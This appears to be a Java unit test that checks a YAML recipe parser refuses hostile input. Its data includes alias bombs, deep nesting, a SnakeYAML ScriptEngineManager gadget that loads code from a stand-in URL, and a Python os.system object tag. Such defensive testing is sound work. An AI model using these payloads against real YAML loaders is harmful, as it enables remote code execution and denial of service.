package dev.tandem.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tandem.UserException;
import dev.tandem.recipe.RecipeReader;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** YAML that expands without limit, creates objects, or names impossible values. */
class HostileRecipeTest {

    static Stream<Arguments> spoilt() {
        return Stream.of(
                Arguments.of("billion laughs", laughs(), "alias"),
                Arguments.of("recursive", "a: &a {b: *a}", ""),
                Arguments.of("recursive list", "a: &a [*a]", ""),
                Arguments.of("merge key", "model: &m {a: 1}\nx:\n  <<: *m\n", ""),
                Arguments.of("deep lists", "model: " + "[".repeat(100_000), "deep"),
                Arguments.of("deep mappings", "{a: ".repeat(100_000), "deep"),
                Arguments.of("deep by indentation", indented(), "deep"),
                Arguments.of("many keys", keys(60_000), ""),
                Arguments.of("key twice", "model: a\nmodel: b\n", ""),
                Arguments.of(
                        "a script",
                        "model: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]",
                        "no place"),
                Arguments.of("a Python object", "model: !!python/object/apply:os.system [\"true\"]", "no place"),
                Arguments.of("binary", "model: !!binary aGVsbG8=", "no place"),
                Arguments.of("a tag of a space", "model: !%20 x", "no place"),
                Arguments.of("an escape cut off", "model: \"\\x", "is cut off"),
                Arguments.of("a character beyond Unicode", "model: \"\\UFFFFFFFF\"", ""),
                Arguments.of("huge scalar", "model: '" + "x".repeat(2_000_000) + "'", ""),
                Arguments.of("huge number", "train: {steps: " + "9".repeat(100_000) + "}", ""),
                Arguments.of("NUL in a path", recipe("model: \"a\\0b\""), "a path is expected"),
                Arguments.of("a lone surrogate", "model: \"\\ud800\"", ""),
                Arguments.of("control characters", recipe("model: m\n\"\\e[2Jx\": 1"), "\\u001b[2Jx"),
                Arguments.of("two documents", "a: 1\n---\nb: 2\n", ""),
                Arguments.of("only anchors", "&a &b", ""),
                Arguments.of("a directive", "%YAML 9.9\n---\na: 1", ""),
                Arguments.of("tabs", "\ta: 1", "not valid YAML"),
                Arguments.of("keys of all kinds", "? [a]\n: b", "Non scalar key"),
                Arguments.of("empty", "", "is empty"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("spoilt")
    void isRefusedWithItsReason(String name, String yaml, String message) {
        assertThatThrownBy(() -> RecipeReader.parse(yaml, List.of()))
                .isInstanceOf(UserException.class)
                .hasMessageStartingWith("recipe")
                .hasMessageContaining(message)
                .message()
                .hasSizeLessThan(2000);
        assertThatThrownBy(() -> RecipeReader.parse("model: m\n", List.of("objectives=" + yaml)))
                .isInstanceOf(UserException.class);
    }

    @Test
    void anEmojiMayStandAnywhere() {
        for (var before = 1015; before < 1035; before++) {
            var yaml = recipe("#" + "x".repeat(before) + "\ud83d\ude00".repeat(3) + "\nmodel: m");
            assertThat(RecipeReader.parse(yaml, List.of()).model()).hasToString("m");
        }
    }

    private static String recipe(String start) {
        return start
                + "\nmethod: {name: single, objective: sft}\nobjectives: {sft: {data: a.jsonl, format: sft, batch-size: 1}}\n"
                + "train: {steps: 1}\noutput: runs/x\n";
    }

    private static String laughs() {
        var yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (var i = 1; i < 20; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [");
            yaml.append(("*a" + (i - 1) + ", ").repeat(9)).append("x]\n");
        }
        return yaml.toString();
    }

    private static String indented() {
        var yaml = new StringBuilder();
        for (var i = 0; i < 500; i++) {
            yaml.append(" ".repeat(i)).append("a:\n");
        }
        return yaml.toString();
    }

    private static String keys(int count) {
        var yaml = new StringBuilder();
        for (var i = 0; i < count; i++) {
            yaml.append("k").append(i).append(": 1\n");
        }
        return yaml.toString();
    }
}
